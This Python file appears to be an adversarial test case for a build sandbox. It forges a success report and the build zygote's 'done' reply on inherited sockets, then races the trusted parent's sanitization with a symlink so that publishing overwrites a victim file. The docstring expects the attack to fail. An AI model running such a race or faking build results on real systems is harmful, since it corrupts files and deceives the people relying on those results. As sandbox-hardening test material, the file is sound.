"""Class: build-time code / a build that outlives its own report (forged zygote reply) and edits
the build directory after the trusted parent sanitized it.

Tries, while the build imports the module (forked by the build zygote, FIB_BUILD_ZYGOTE=1, the
pipeline's default): write its own OK report (`_build/child_result.json`), plant a canary
symlink, then send the zygote's "done" reply (`{"rc": 0}`) itself on the connection the forked
child inherits (see `build_zygote_reply`). The trusted parent now believes the build is over and
sanitizes, reads and publishes the build directory while this process still runs (the zygote
kills it only after the client closed its connection: a race). As soon as the canary is gone
(`sanitize_build_dir` ran) it plants `manifest.json` as a symlink to `__VICTIM__`:
`cache.publish` writes through it. No prctl, no daemon: the build child itself.
Expect: the victim file unchanged; COMPILE_ERROR or a plain build.
"""
import json
import os
import stat
import struct
import time

os.chdir(os.getcwd())  # the writable bind mount's view of the build directory
with open(os.path.join("_build", "child_result.json"), "w") as f:
    json.dump({"status": "OK", "message": "", "details": "", "info": {}}, f)
os.symlink("/nonexistent", "canary")
body = json.dumps({"rc": 0}).encode()
sent = 0
for name in os.listdir("/proc/self/fd"):
    try:
        fd = int(name)
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.write(fd, struct.pack("!I", len(body)) + body)
            sent += 1
    except OSError:
        pass
print(f"RACE REPORT: sent {sent} forged replies", flush=True)
end = time.monotonic() + 10
while os.path.lexists("canary") and time.monotonic() < end:
    pass
try:
    os.symlink("__VICTIM__", "manifest.json")
except OSError:
    pass
time.sleep(5)
os._exit(0)


def run(x, weight, eps):
    return x
